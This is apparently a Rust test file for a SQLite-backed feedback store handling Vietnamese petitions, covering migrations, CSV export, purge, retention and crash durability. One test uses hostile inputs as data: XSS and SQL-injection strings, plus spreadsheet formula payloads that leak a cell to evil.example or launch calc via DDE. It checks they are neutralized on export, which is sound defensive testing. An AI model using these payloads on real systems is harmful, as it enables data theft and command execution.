//! The feedback store: round trips, migrations, hostile input stored verbatim and exported safely, purge,
//! retention, and durability under SIGKILL of the writing process.

use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sotay::Error;
use sotay::feedback::export::HEADER;
use sotay::feedback::schema::{MIGRATIONS, current_version};
use sotay::feedback::{
    FeedbackStore, Petition, PetitionInput, PetitionKind, RatingInput, validate_petition,
};

fn petition(summary: &str) -> PetitionInput {
    PetitionInput {
        kind: PetitionKind::KienNghi,
        name: "Nguyễn Thị Hoa".into(),
        address: "Tổ 3, phường Phú Hội, thành phố Huế".into(),
        phone: "0905 123 456".into(),
        email: Some("hoa@example.vn".into()),
        procedure_code: Some("1.000894".into()),
        summary: summary.into(),
    }
}

fn store() -> (tempfile::TempDir, FeedbackStore) {
    let dir = tempfile::tempdir().expect("tmp");
    let store = FeedbackStore::open(&FeedbackStore::default_path(dir.path())).expect("open");
    (dir, store)
}

/// The stored form of an input (what validation makes of it).
fn stored_form(p: &PetitionInput) -> PetitionInput {
    validate_petition(p).expect("valid")
}

fn as_input(p: &Petition) -> PetitionInput {
    PetitionInput {
        kind: p.kind,
        name: p.name.clone(),
        address: p.address.clone(),
        phone: p.phone.clone(),
        email: p.email.clone(),
        procedure_code: p.procedure_code.clone(),
        summary: p.summary.clone(),
    }
}

/// Reads an export back: the header and the rows, BOM removed.
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).expect("read export");
    let text = std::str::from_utf8(&bytes).expect("utf-8");
    let text = text.strip_prefix('\u{feff}').expect("BOM first");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let header = r
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    let rows = r
        .records()
        .map(|rec| rec.expect("record").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// A cell as it was before neutralization.
fn unneutralize(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

#[test]
fn round_trip_survives_reopening() {
    let (dir, store) = store();
    let a = petition("Đề nghị bố trí thêm ghế chờ tại bộ phận một cửa.");
    let mut b = petition("Cán bộ hướng dẫn chưa rõ về giấy tờ cần mang theo.");
    b.kind = PetitionKind::PhanAnh;
    b.email = None;
    b.procedure_code = None;
    b.phone = "+84 24 3825 3535".into();
    let ia = store.add_petition(&a).expect("add a");
    let ib = store.add_petition(&b).expect("add b");
    assert!(ib > ia);
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 3,
        })
        .expect("rating");
    store
        .add_rating(&RatingInput {
            code: "1.001193".into(),
            level: 1,
        })
        .expect("rating");
    drop(store);

    let store = FeedbackStore::open(&FeedbackStore::default_path(dir.path())).expect("reopen");
    let ps = store.petitions().expect("petitions");
    assert_eq!(ps.len(), 2);
    assert_eq!(as_input(&ps[0]), stored_form(&a));
    assert_eq!(as_input(&ps[1]), stored_form(&b));
    assert_eq!(ps[1].phone, "+842438253535");
    for p in &ps {
        assert!(p.exported_at.is_none());
        // UTC ISO-8601 with milliseconds.
        assert_eq!(p.created_at.len(), 24, "{}", p.created_at);
        assert!(p.created_at.ends_with('Z') && p.created_at.as_bytes()[10] == b'T');
    }
    let rs = store.ratings().expect("ratings");
    assert_eq!(
        rs.iter()
            .map(|r| (r.procedure_code.as_str(), r.level))
            .collect::<Vec<_>>(),
        [("1.000894", 3), ("1.001193", 1)]
    );
    let c = store.counts().expect("counts");
    assert_eq!(
        (c.petitions, c.petitions_not_exported, c.ratings),
        (2, 2, 2)
    );
}

#[test]
fn refused_input_stores_nothing() {
    let (_dir, store) = store();
    let mut p = petition("ngắn");
    p.phone = "1022".into();
    match store.add_petition(&p) {
        Err(Error::InvalidFields(fields)) => {
            let names: Vec<&str> = fields.iter().map(|f| f.field.as_str()).collect();
            assert_eq!(names, ["phone", "summary"]);
        }
        other => panic!("{other:?}"),
    }
    for (code, level) in [("1.000894", 0), ("1.000894", 4), ("khong-ma", 2)] {
        let r = RatingInput {
            code: code.into(),
            level,
        };
        assert!(matches!(store.add_rating(&r), Err(Error::InvalidFields(_))));
    }
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.ratings), (0, 0));
}

#[test]
fn migrations_from_an_empty_file_and_from_version_1() {
    // An empty file (as a crash right after creation would leave) becomes a current database.
    let tmp = tempfile::tempdir().expect("tmp");
    let empty = tmp.path().join("empty.sqlite3");
    std::fs::write(&empty, b"").expect("write");
    let s = FeedbackStore::open(&empty).expect("open empty");
    assert_eq!(s.schema_version().expect("version"), current_version());
    assert!(current_version() >= 2);
    drop(s);

    // A version-1 database with data, as the first release wrote it.
    let v1 = tmp.path().join("v1.sqlite3");
    {
        let conn = rusqlite::Connection::open(&v1).expect("open v1");
        conn.execute_batch(MIGRATIONS[0]).expect("schema v1");
        conn.pragma_update(None, "user_version", 1)
            .expect("version");
        conn.execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES ('2026-01-02T03:04:05.000Z', 'phan-anh', 'Lê Văn Bình', 'Đà Nẵng', '0905123456',
                     'Nội dung phản ánh cũ')",
            [],
        )
        .expect("insert");
        conn.execute(
            "INSERT INTO ratings (created_at, procedure_code, level)
             VALUES ('2026-01-02T03:04:06.000Z', '1.000894', 2)",
            [],
        )
        .expect("insert");
    }
    let s = FeedbackStore::open(&v1).expect("migrate v1");
    assert_eq!(s.schema_version().expect("version"), current_version());
    let ps = s.petitions().expect("petitions");
    assert_eq!(ps.len(), 1);
    assert_eq!(ps[0].name, "Lê Văn Bình");
    assert_eq!(ps[0].created_at, "2026-01-02T03:04:05.000Z");
    assert_eq!(s.ratings().expect("ratings")[0].level, 2);
    drop(s);
    let conn = rusqlite::Connection::open(&v1).expect("open");
    let indexes: i64 = conn
        .query_row(
            "SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name LIKE '%_by_%'",
            [],
            |r| r.get(0),
        )
        .expect("indexes");
    assert_eq!(indexes, 3);
    // Opening a current database again changes nothing.
    drop(conn);
    let s = FeedbackStore::open(&v1).expect("reopen");
    assert_eq!(s.petitions().expect("petitions").len(), 1);
}

#[test]
fn a_newer_database_is_refused_and_left_untouched() {
    let tmp = tempfile::tempdir().expect("tmp");
    let path = tmp.path().join("future.sqlite3");
    {
        let conn = rusqlite::Connection::open(&path).expect("open");
        conn.execute_batch("CREATE TABLE future (x); PRAGMA user_version = 99;")
            .expect("future");
    }
    let before = std::fs::read(&path).expect("read");
    match FeedbackStore::open(&path) {
        Err(Error::SchemaTooNew { found, known, .. }) => {
            assert_eq!((found, known), (99, current_version()));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(std::fs::read(&path).expect("read"), before);
    let err = FeedbackStore::open(&path)
        .expect_err("still refused")
        .to_string();
    assert!(err.contains("newer"), "{err}");
}

#[test]
fn a_file_that_is_not_a_database_is_a_database_error_naming_it() {
    let tmp = tempfile::tempdir().expect("tmp");
    let path = tmp.path().join("feedback.sqlite3");
    std::fs::write(&path, "petitions,ratings\n".repeat(100)).expect("write");
    match FeedbackStore::open(&path) {
        Err(e @ Error::Database { .. }) => {
            assert!(
                e.to_string().starts_with(&path.display().to_string()),
                "{e}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn hostile_input_is_stored_verbatim_and_exported_safely() {
    let (dir, store) = store();
    let long: String = "Thủ tục rườm rà 😀 ".chars().cycle().take(10_000).collect();
    let cases: Vec<PetitionInput> = vec![
        petition(&long),
        petition("Xin chào 👋🏽 👨‍👩‍👧 — biểu tượng cảm xúc 🇻🇳"),
        PetitionInput {
            name: "<script>alert('x')</script>".into(),
            address: "<img src=x onerror=alert(1)> & \"trích dẫn\"".into(),
            ..petition("<b>đậm</b><script>document.cookie</script>")
        },
        PetitionInput {
            name: "Robert'); DROP TABLE petitions;--".into(),
            address: "1' OR '1'='1".into(),
            ..petition("'; DROP TABLE petitions;-- \"; DELETE FROM ratings; --")
        },
        PetitionInput {
            name: "Tên\u{0}có NUL".into(),
            address: "Địa\u{0}chỉ\u{1b}[31m".into(),
            ..petition("Nội dung\u{0}có byte NUL\u{0} ở giữa\r\nvà xuống dòng")
        },
        PetitionInput {
            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")".into(),
            address: "+1 phố Huế".into(),
            email: None,
            ..petition("-2+3 là công thức")
        },
        PetitionInput {
            name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            address: "-5 độ C ngoài trời".into(),
            ..petition("=1+1 và mọi thứ khác")
        },
    ];
    let mut ids = Vec::new();
    for p in &cases {
        ids.push(store.add_petition(p).expect("stored"));
    }
    let stored = store.petitions().expect("petitions");
    assert_eq!(stored.len(), cases.len());
    for (p, s) in cases.iter().zip(&stored) {
        assert_eq!(as_input(s), stored_form(p), "read back equal");
    }
    // NUL bytes and markup really are in the database as typed.
    assert_eq!(stored[0].summary.chars().count(), 10_000);
    assert_eq!(stored[4].name, "Tên\u{0}có NUL");
    assert_eq!(stored[3].name, "Robert'); DROP TABLE petitions;--");

    let out = dir.path().join("xuat.csv");
    let summary = store.export_csv(&out, false).expect("export");
    assert_eq!(
        (summary.petitions, summary.ratings, summary.purged),
        (7, 0, 0)
    );
    let (header, rows) = read_csv(&out);
    assert_eq!(header, HEADER);
    assert_eq!(rows.len(), cases.len());
    for (row, s) in rows.iter().zip(&stored) {
        let cell = |name: &str| {
            let i = HEADER.iter().position(|h| *h == name).expect("column");
            unneutralize(&row[i]).to_string()
        };
        assert_eq!(cell("record"), s.kind.as_str());
        assert_eq!(cell("id"), s.id.to_string());
        assert_eq!(cell("created_at"), s.created_at);
        assert_eq!(cell("name"), s.name);
        assert_eq!(cell("address"), s.address);
        assert_eq!(cell("phone"), s.phone);
        assert_eq!(cell("email"), s.email.clone().unwrap_or_default());
        assert_eq!(
            cell("procedure_code"),
            s.procedure_code.clone().unwrap_or_default()
        );
        assert_eq!(cell("summary"), s.summary);
        assert_eq!(cell("level"), "");
        // No cell a spreadsheet would evaluate.
        for raw in row {
            assert!(
                !raw.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "not neutralized: {raw:?}"
            );
        }
    }
    let name = |i: usize| rows[i][5].as_str();
    assert!(name(5).starts_with("'=HYPERLINK("));
    assert_eq!(rows[5][6], "'+1 phố Huế");
    assert_eq!(rows[5][9], "'-2+3 là công thức");
    assert!(name(6).starts_with("'@SUM("));
    assert_eq!(rows[6][6], "'-5 độ C ngoài trời");
    assert_eq!(rows[6][9], "'=1+1 và mọi thứ khác");
    // Exporting marks, and leaves everything in place without purge.
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.petitions_not_exported), (7, 0));
}

#[test]
fn an_empty_export_still_has_its_header() {
    let (dir, store) = store();
    let out = dir.path().join("rong.csv");
    let s = store.export_csv(&out, true).expect("export");
    assert_eq!((s.petitions, s.ratings, s.purged), (0, 0, 0));
    let (header, rows) = read_csv(&out);
    assert_eq!(header, HEADER);
    assert!(rows.is_empty());
    let bytes = std::fs::read(&out).expect("read");
    assert!(bytes.ends_with(b"summary\r\n"));

    // The CLI writes the same, and says what it wrote.
    let out2 = dir.path().join("cli.csv");
    let o = Command::new(env!("CARGO_BIN_EXE_sotay"))
        .args(["feedback", "export", "--db"])
        .arg(store.path())
        .arg("--out")
        .arg(&out2)
        .env(sotay::config::DATA_DIR_VAR, dir.path())
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("0 petition(s), 0 rating(s)"));
    assert_eq!(std::fs::read(&out2).expect("read"), bytes);
}

#[test]
fn purge_removes_exactly_the_exported_petitions() {
    let (dir, store) = store();
    for i in 0..3 {
        store
            .add_petition(&petition(&format!("Kiến nghị số {i} cần xem xét")))
            .expect("add");
    }
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 2,
        })
        .expect("rating");
    let s = store
        .export_csv(&dir.path().join("1.csv"), true)
        .expect("export");
    assert_eq!((s.petitions, s.ratings, s.purged), (3, 1, 3));
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.ratings), (0, 1), "ratings are kept");
    let later = store
        .add_petition(&petition("Kiến nghị gửi sau lần xuất"))
        .expect("add");
    assert_eq!(later, 4, "ids are never reused after a purge");

    // A second process keeps writing while this one exports and purges: every petition ends up in
    // exactly one export or still in the database, never lost, never twice.
    let other = FeedbackStore::open(store.path()).expect("second connection");
    let acked = Arc::new(Mutex::new(vec![later]));
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let acked = Arc::clone(&acked);
        let done = Arc::clone(&done);
        std::thread::spawn(move || {
            let mut i = 0;
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                let id = other
                    .add_petition(&petition(&format!("Kiến nghị đồng thời số {i}")))
                    .expect("concurrent add");
                acked.lock().expect("lock").push(id);
                i += 1;
            }
        })
    };
    let mut exported = Vec::new();
    for n in 0..5 {
        std::thread::sleep(Duration::from_millis(20));
        let out = dir.path().join(format!("p{n}.csv"));
        let s = store.export_csv(&out, true).expect("export");
        let (_, rows) = read_csv(&out);
        let ids: Vec<i64> = rows
            .iter()
            .filter(|r| r[0] != "danh-gia")
            .map(|r| r[1].parse().expect("id"))
            .collect();
        assert_eq!(ids.len(), s.petitions);
        assert_eq!(s.purged, s.petitions, "purged exactly what was exported");
        exported.extend(ids);
    }
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    writer.join().expect("writer");
    let remaining: Vec<i64> = store
        .petitions()
        .expect("petitions")
        .iter()
        .map(|p| p.id)
        .collect();
    let mut all = exported.clone();
    all.extend(&remaining);
    let unique: HashSet<i64> = all.iter().copied().collect();
    assert_eq!(unique.len(), all.len(), "no petition exported twice");
    let acked: HashSet<i64> = acked.lock().expect("lock").iter().copied().collect();
    assert_eq!(
        unique, acked,
        "every acknowledged petition exported or kept"
    );
    assert!(exported.len() > 1, "the writer ran during the exports");
}

#[test]
fn retention_deletes_only_what_is_older() {
    let (_dir, store) = store();
    store
        .add_petition(&petition("Kiến nghị mới gửi hôm nay"))
        .expect("add");
    store
        .add_rating(&RatingInput {
            code: "1.000894".into(),
            level: 3,
        })
        .expect("rating");
    {
        let conn = rusqlite::Connection::open(store.path()).expect("open");
        conn.execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-400 days'), 'kien-nghi', 'Cũ', 'Cũ',
                     '0905123456', 'Kiến nghị từ năm ngoái'),
                    (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-20 days'), 'kien-nghi', 'Vừa', 'Vừa',
                     '0905123456', 'Kiến nghị tháng trước')",
            [],
        )
        .expect("old petitions");
        conn.execute(
            "INSERT INTO ratings (created_at, procedure_code, level)
             VALUES (strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '-366 days'), '1.000894', 1)",
            [],
        )
        .expect("old rating");
    }
    assert_eq!(store.apply_retention(0).expect("keep forever"), 0);
    assert_eq!(store.counts().expect("counts").petitions, 3);
    assert_eq!(store.apply_retention(365).expect("retention"), 2);
    let names: Vec<String> = store
        .petitions()
        .expect("petitions")
        .into_iter()
        .map(|p| p.name)
        .collect();
    assert_eq!(names, ["Nguyễn Thị Hoa", "Vừa"]);
    assert_eq!(store.ratings().expect("ratings").len(), 1);
    assert_eq!(store.apply_retention(10).expect("retention"), 1);
    assert_eq!(store.apply_retention(10).expect("again"), 0);
}

/// A small deterministic generator (SplitMix64) so a failing round can be replayed from its seed.
struct SplitMix(u64);

impl SplitMix {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// Kills `sotay feedback add` with SIGKILL at random moments while it stores petitions, many times over
/// the same database, and checks after each kill that every acknowledged petition is there, intact, and
/// that SQLite's integrity check passes. `SOTAY_DURABILITY_SEED` replays a run; `SOTAY_DURABILITY_ROUNDS`
/// changes the number of rounds (default 50).
#[test]
fn every_acknowledged_petition_survives_sigkill() {
    let seed = std::env::var("SOTAY_DURABILITY_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(1, |d| d.as_nanos() as u64)
        });
    let rounds: usize = std::env::var("SOTAY_DURABILITY_ROUNDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(50);
    eprintln!("durability: seed {seed} (SOTAY_DURABILITY_SEED={seed} replays it), {rounds} rounds");
    let mut rng = SplitMix(seed);
    let tmp = tempfile::tempdir().expect("tmp");
    let db = tmp.path().join("feedback.sqlite3");
    let started = Instant::now();
    // Everything ever acknowledged: id → the petition as stored.
    let mut acked: HashMap<i64, PetitionInput> = HashMap::new();
    let mut sent_total = 0usize;

    for round in 0..rounds {
        let mut child = Command::new(env!("CARGO_BIN_EXE_sotay"))
            .args(["feedback", "add", "--db"])
            .arg(&db)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn sotay feedback add");
        let mut stdin = child.stdin.take().expect("stdin");
        let stdout = child.stdout.take().expect("stdout");
        // Lines are sent in order and answered in order: the k-th `ok` is the k-th petition sent.
        let sent: Arc<Mutex<Vec<PetitionInput>>> = Arc::new(Mutex::new(Vec::new()));
        let writer = {
            let sent = Arc::clone(&sent);
            let kinds = rng.next();
            std::thread::spawn(move || {
                for k in 0usize.. {
                    let mut p = petition(&format!(
                        "Vòng {round}, kiến nghị {k}: nội dung riêng {kinds:x}-{k} 😀 \"trích\" ; --"
                    ));
                    if (kinds >> (k % 64)) & 1 == 1 {
                        p.kind = PetitionKind::PhanAnh;
                        p.email = None;
                    }
                    let mut line = serde_json::to_string(&p).expect("json");
                    line.push('\n');
                    sent.lock().expect("lock").push(stored_form(&p));
                    if stdin.write_all(line.as_bytes()).is_err() {
                        break; // the process is gone
                    }
                }
            })
        };
        let reader = std::thread::spawn(move || {
            let mut ids = Vec::new();
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let id: i64 = line
                    .strip_prefix("ok ")
                    .unwrap_or_else(|| panic!("unexpected answer {line:?}"))
                    .parse()
                    .expect("id");
                ids.push(id);
            }
            ids
        });
        // Kill at a random moment: sometimes while it opens the database, mostly mid-stream.
        let delay = match rng.below(10) {
            0 => rng.below(5),
            _ => rng.below(150),
        };
        std::thread::sleep(Duration::from_millis(delay));
        child.kill().expect("SIGKILL");
        child.wait().expect("reap");
        let ids = reader.join().expect("reader");
        writer.join().expect("writer");
        let sent = sent.lock().expect("lock");
        sent_total += sent.len();
        assert!(ids.len() <= sent.len());
        for (k, id) in ids.iter().enumerate() {
            assert!(
                acked.insert(*id, sent[k].clone()).is_none(),
                "round {round}: id {id} acknowledged twice (seed {seed})"
            );
        }

        // After each kill: open (recovering the WAL), check every acknowledged petition and integrity.
        let store = FeedbackStore::open(&db).expect("reopen after SIGKILL");
        let present: HashMap<i64, PetitionInput> = store
            .petitions()
            .expect("petitions")
            .iter()
            .map(|p| (p.id, as_input(p)))
            .collect();
        for (id, p) in &acked {
            assert_eq!(
                present.get(id),
                Some(p),
                "round {round}: acknowledged petition {id} lost or changed (seed {seed})"
            );
        }
        drop(store);
        let conn = rusqlite::Connection::open(&db).expect("open");
        let check: String = conn
            .query_row("PRAGMA integrity_check", [], |r| r.get(0))
            .expect("integrity_check");
        assert_eq!(check, "ok", "round {round} (seed {seed})");
    }
    let present = FeedbackStore::open(&db)
        .expect("open")
        .counts()
        .expect("counts")
        .petitions;
    eprintln!(
        "durability: {rounds} rounds, {sent_total} sent, {} acknowledged, {present} present, \
         integrity ok after every kill, {:.1} s",
        acked.len(),
        started.elapsed().as_secs_f64()
    );
    assert!(
        acked.len() >= rounds,
        "too few acknowledgements to prove anything: {}",
        acked.len()
    );
    assert!(present >= acked.len());
}
